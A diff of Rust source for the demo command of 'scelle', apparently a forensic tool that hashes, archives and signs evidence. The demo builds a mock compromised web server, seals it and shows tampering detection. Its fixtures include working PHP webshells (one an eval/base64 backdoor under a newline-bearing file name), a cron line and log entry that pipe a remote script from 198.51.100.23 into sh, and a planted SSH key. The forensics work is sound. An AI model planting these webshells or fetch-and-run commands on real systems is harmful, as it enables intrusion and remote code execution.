@@ -1,13 +1,18 @@
-//! `scelle demo`: shows the whole job on a scene it builds itself.
+//! `scelle demo`: the whole job on a compromised web server scene it builds itself.
 
 use std::fs;
-use std::path::Path;
+use std::os::unix::ffi::OsStrExt;
+use std::path::{Path, PathBuf};
 
 use anyhow::Context;
-use scelle_sign::{ScryptCost, SecretKey, SignatureFile};
+use scelle_sign::{ScryptCost, SecretKey};
 
+use crate::cli::{FreezeArgs, PassphraseArgs};
+use crate::cmd::verify::{self, Verdict};
 use crate::exit::Status;
 use crate::output;
+
+const EVIDENCE_ID: &str = "demo-web01";
 
 pub fn run() -> anyhow::Result<Status> {
     let dir = tempfile::Builder::new()
@@ -15,48 +20,81 @@ pub fn run() -> anyhow::Result<Status> {
         .tempdir()
         .context("cannot create a demo directory")?
         .keep();
-    output::line(&format!("demo directory: {}", dir.display()))?;
+    output::line(&format!("== scelle demo in {}", dir.display()))?;
 
+    let scene = dir.join("scene");
+    build_scene(&scene)?;
+    output::line(&format!(
+        "\n1. A compromised web server, as found: {}",
+        scene.display()
+    ))?;
+    output::line(
+        "   nginx logs with the intrusion, a PHP webshell in uploads/, a file whose name holds a",
+    )?;
+    output::line("   newline, the attacker's SSH key, a cron job, a symlink and a FIFO.")?;
+
+    let key_prefix = dir.join("responder");
     let secret = SecretKey::generate()?;
     let public = secret.public_key();
     super::key::write_new_file(
-        &dir.join("demo.key"),
+        &key_prefix.with_extension("key"),
         &secret.to_file_text(None, ScryptCost::MINISIGN_DEFAULT)?,
         0o600,
     )?;
-    super::key::write_new_file(&dir.join("demo.pub"), &public.to_file_text(), 0o644)?;
+    let public_path = key_prefix.with_extension("pub");
+    super::key::write_new_file(&public_path, &public.to_file_text(), 0o644)?;
     output::line(&format!(
-        "1. throwaway key pair: demo.key / demo.pub, key id {}",
+        "\n2. A throwaway responder key (unencrypted, for the demo only): key id {}",
         public.key_id()
     ))?;
-    output::line(&format!("   fingerprint SHA256:{}", public.fingerprint()))?;
 
-    let evidence = dir.join("access.log");
-    fs::write(&evidence, "203.0.113.66 - - [20/Nov/2026:03:12:44 +0000] \"POST /uploads/shell.php HTTP/1.1\" 200 31\n")?;
-    let signature =
-        secret.sign_reader(fs::File::open(&evidence)?, "evidence:demo file:access.log")?;
-    super::key::write_new_file(
-        &dir.join("access.log.minisig"),
-        &signature.to_file_text(),
-        0o644,
-    )?;
-    output::line("2. signed access.log -> access.log.minisig")?;
-
-    check(&public, &evidence, "3. verify the original")?;
-    let mut bytes = fs::read(&evidence)?;
-    bytes[0] ^= 0x01;
-    let tampered = dir.join("access.log.tampered");
-    fs::write(&tampered, bytes)?;
-    fs::copy(
-        dir.join("access.log.minisig"),
-        dir.join("access.log.tampered.minisig"),
-    )?;
-    let caught = !check(&public, &tampered, "4. verify a copy with one flipped bit")?;
-    output::line(&format!(
-        "   check it without scelle: minisign -Vm {} -p {}",
-        evidence.display(),
-        dir.join("demo.pub").display()
+    let evidence = dir.join("evidence");
+    fs::create_dir(&evidence)?;
+    output::line("\n3. scelle freeze: read every file once, hash, archive, sign, seal.\n")?;
+    super::freeze::run(&freeze_args(
+        &key_prefix.with_extension("key"),
+        &evidence,
+        &scene,
     ))?;
+    let archive = evidence.join(format!("{EVIDENCE_ID}.tar.zst"));
+
+    output::line("\n4. scelle verify, as the court-appointed expert would run it:\n")?;
+    let options = verify::options(Some(&public_path), None)?;
+    let report = verify::check(&archive, &options)?;
+    let original = verify::verdict(&report);
+    verify::print(&report, original)?;
+
+    let tampered = evidence.join(format!("{EVIDENCE_ID}-TAMPERED.tar.zst"));
+    let mut bytes = fs::read(&archive)?;
+    let middle = bytes.len() / 2;
+    bytes[middle] ^= 0x01;
+    fs::write(&tampered, bytes)?;
+    output::line(&format!(
+        "\n5. One bit flipped at byte {middle} of a copy ({}):\n",
+        tampered.file_name().unwrap_or_default().to_string_lossy()
+    ))?;
+    let report = verify::check(&tampered, &options)?;
+    let altered = verify::verdict(&report);
+    verify::print(&report, altered)?;
+
+    output::line("\n6. Without scelle, with standard tools only:")?;
+    output::line(&format!(
+        "   cd {} && sha256sum {EVIDENCE_ID}.tar.zst",
+        evidence.display()
+    ))?;
+    output::line(&format!(
+        "   tar --zstd -xf {EVIDENCE_ID}.tar.zst && python3 -m bagit --validate {EVIDENCE_ID}"
+    ))?;
+    output::line(&format!(
+        "   minisign -Vm {EVIDENCE_ID}/scelle/manifest.json -p {}",
+        public_path.display()
+    ))?;
+    let caught = original == Verdict::Intact && altered == Verdict::NotIntact;
+    output::line(if caught {
+        "\nThe original verifies INTACT and the tampered copy is caught."
+    } else {
+        "\nUNEXPECTED: the demo did not behave as it should; please report it."
+    })?;
     Ok(if caught {
         Status::Success
     } else {
@@ -64,21 +102,79 @@ pub fn run() -> anyhow::Result<Status> {
     })
 }
 
-/// Verifies `file` against its `.minisig` and says what happened.
-fn check(public: &scelle_sign::PublicKey, file: &Path, step: &str) -> anyhow::Result<bool> {
-    let signature_path = file.with_file_name(format!(
-        "{}.minisig",
-        file.file_name().unwrap_or_default().to_string_lossy()
-    ));
-    let signature = SignatureFile::load(&signature_path)?;
-    let verdict = public.verify_reader(
-        &signature,
-        fs::File::open(file)?,
-        &signature_path.display().to_string(),
-    );
-    match &verdict {
-        Ok(_) => output::line(&format!("{step}: INTACT"))?,
-        Err(error) => output::line(&format!("{step}: TAMPERING DETECTED ({error})"))?,
+fn freeze_args(key: &Path, out: &Path, scene: &Path) -> FreezeArgs {
+    FreezeArgs {
+        key: key.to_path_buf(),
+        passphrase: PassphraseArgs {
+            passphrase_file: None,
+        },
+        out: out.to_path_buf(),
+        id: Some(EVIDENCE_ID.into()),
+        case_id: Some("DEMO-2026-001".into()),
+        title: Some("Intrusion on web01 (demonstration)".into()),
+        legal_basis: Some("ordonnance art. 145 CPC, TJ Paris, 2026-11-20 (fictitious)".into()),
+        examiner: Some("Camille Expert (demo)".into()),
+        organization: Some("Cabinet Démo".into()),
+        note: vec!["Scene generated by scelle demo".into()],
+        operator: None,
+        exclude: Vec::new(),
+        one_file_system: false,
+        follow_symlinks: false,
+        level: 3,
+        threads: None,
+        json: false,
+        paths: vec![scene.to_path_buf()],
     }
-    Ok(verdict.is_ok())
+}
+
+/// Writes the compromised web server's files under `scene`.
+fn build_scene(scene: &Path) -> anyhow::Result<()> {
+    let file = |rel: &str, content: &str| -> anyhow::Result<PathBuf> {
+        let path = scene.join(rel);
+        fs::create_dir_all(path.parent().expect("relative path has a parent"))?;
+        fs::write(&path, content)?;
+        Ok(path)
+    };
+    file(
+        "var/log/nginx/access.log",
+        "198.51.100.7 - - [19/Nov/2026:23:58:02 +0000] \"GET / HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0\"\n\
+         203.0.113.66 - - [20/Nov/2026:03:12:40 +0000] \"POST /wp-admin/admin-ajax.php?action=upload HTTP/1.1\" 200 48 \"-\" \"python-requests/2.31\"\n\
+         203.0.113.66 - - [20/Nov/2026:03:12:44 +0000] \"GET /uploads/shell.php?c=id HTTP/1.1\" 200 54 \"-\" \"python-requests/2.31\"\n\
+         203.0.113.66 - - [20/Nov/2026:03:13:10 +0000] \"GET /uploads/shell.php?c=curl%20-s%20http://198.51.100.23/x.sh%7Csh HTTP/1.1\" 200 0 \"-\" \"python-requests/2.31\"\n",
+    )?;
+    file(
+        "var/log/nginx/error.log",
+        "2026/11/20 03:12:40 [warn] 812#812: *4411 an upstream response is buffered to a temporary file\n",
+    )?;
+    file(
+        "var/www/html/index.php",
+        "<?php echo 'Bienvenue sur web01'; ?>\n",
+    )?;
+    file(
+        "var/www/html/uploads/shell.php",
+        "<?php if (isset($_GET['c'])) { system($_GET['c']); } ?>\n",
+    )?;
+    // A name with a newline: the kind of trick that breaks naive tools.
+    let tricky = scene.join("var/www/html/uploads");
+    fs::write(
+        tricky.join(std::ffi::OsStr::from_bytes(b"invoice\n2026.pdf.php")),
+        "<?php eval(base64_decode($_POST['p'])); ?>\n",
+    )?;
+    file(
+        "root/.ssh/authorized_keys",
+        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoAttackerKeyDemoAttackerKeyDemoAttacker00 backup@203.0.113.66\n",
+    )?;
+    file(
+        "etc/cron.d/sysupdate",
+        "*/5 * * * * root curl -s http://198.51.100.23/x.sh | sh\n",
+    )?;
+    std::os::unix::fs::symlink("/var/www/html", scene.join("var/www/current"))?;
+    let fifo_dir = scene.join("tmp/.X11-cache");
+    fs::create_dir_all(&fifo_dir)?;
+    nix::unistd::mkfifo(
+        &fifo_dir.join("pipe"),
+        nix::sys::stat::Mode::from_bits_truncate(0o600),
+    )
+    .context("cannot create the demo FIFO")?;
+    Ok(())
 }
